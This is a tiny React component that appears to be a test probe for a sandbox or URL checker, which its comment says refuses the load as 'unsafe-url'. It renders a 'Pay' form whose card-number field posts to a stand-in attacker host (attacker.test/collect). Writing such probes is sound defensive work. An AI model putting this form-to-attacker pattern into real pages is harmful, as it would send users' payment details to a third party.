// probe: network by a resource load; refused by: unsafe-url
export default function Probe() {
  return <form action="https://attacker.test/collect" method="post"><input name="card" defaultValue="4242" /><button type="submit">Pay</button></form>;
}
